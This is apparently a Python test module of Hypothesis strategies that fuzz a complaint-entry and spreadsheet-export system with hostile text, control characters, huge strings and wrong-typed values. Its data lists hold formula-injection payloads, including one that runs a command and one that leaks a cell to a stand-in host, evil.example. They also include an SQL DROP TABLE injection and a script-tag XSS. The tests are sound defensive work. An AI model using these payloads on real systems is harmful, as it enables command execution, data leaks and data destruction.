"""Hypothesis strategies of hostile input: what a paste, a broken client or an attacker
may put where staff type text (issue #8, "Reliability and security")."""

from __future__ import annotations

import datetime as dt
import re

from hypothesis import strategies as st

# Text a spreadsheet would run as a formula, or show as an error, if written as is.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=",
    "#DIV/0!",
    "#N/A",
    '=WEBSERVICE("http://x")',
    "＝1+1",  # full-width equals sign
)

# Characters that break drivers or files: NUL (psycopg2 refuses it), C0 controls (XML 1.0
# has no place for them), lone surrogates (no UTF-8 form), U+FFFE/U+FFFF (not XML), bidi
# overrides, line and paragraph separators.
NASTY_CHARACTERS = (
    "\x00",
    "\x01",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
    "\x7f",
    "\x85",
    "\ud800",
    "\udfff",
    "\ufffe",
    "\uffff",
    "\u202e",
    "\u200b",
    "\u2028",
    "\ufeff",
    "\r\n",
    "\t",
)

SAMPLES = (
    "王小明",
    "屏幕无法点亮，要求换货",
    "😀🤬🧧",
    "Zoë O'Brien-Łukasz",
    "ﷺ",
    "𠮷野家",
    "李\u3000雷",
    "   ",
    "",
    "null",
    "None",
    "'; DROP TABLE complaint; --",
    "<script>alert(1)</script>",
    "%s%s%n",
    "{0}{name}",
    "\\x00",
)

# Every character Python allows in a str, surrogates included.
any_character = st.characters(codec=None, exclude_categories=())


class Huge(str):
    """A huge string whose repr stays short (hypothesis prints failing examples)."""

    def __new__(cls, part: str, times: int):
        self = super().__new__(cls, part * times)
        self.shown = f"{part!r} * {times}"
        return self

    def __repr__(self) -> str:
        return self.shown


def _mix(parts: list[str]) -> str:
    return "".join(parts)


hostile_text = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(SAMPLES),
    st.text(any_character, max_size=40),
    st.lists(
        st.one_of(
            st.sampled_from(NASTY_CHARACTERS),
            st.sampled_from(FORMULAS),
            st.sampled_from(SAMPLES),
            st.text(max_size=5),
        ),
        min_size=1,
        max_size=5,
    ).map(_mix),
    # Huge strings: beyond every column and beyond a spreadsheet cell (32,767).
    st.sampled_from((Huge("长", 100_000), Huge("x", 5001), Huge("=A", 20_000), Huge("😀", 3000))),
)

wrong_types = st.one_of(
    st.none(),
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.binary(max_size=8),
    st.datetimes(min_value=dt.datetime(1900, 1, 1)),
    st.dates(),
    st.lists(st.text(max_size=3), max_size=3),
    st.just({"a": 1}),
    st.just(object()),
)

hostile = st.one_of(hostile_text, wrong_types)

# Text a cell can hold (what an .xlsx file can carry at all): no C0 controls but tab and
# line breaks, no surrogates, no U+FFFE/U+FFFF.
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def writable(text: str) -> str:
    return _UNWRITABLE.sub("", text)[:32767]


cell_text = hostile_text.map(writable)

# Formula-like text that is otherwise acceptable everywhere: for the export tests.
formula_text = st.builds(
    lambda head, tail: (head + tail).strip() or head.strip() or "=x",
    st.sampled_from(FORMULAS + ("=", "+", "-", "@", "\t=", "＝")),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Co", "Cn")), max_size=30),
).filter(lambda s: s.strip() != "")
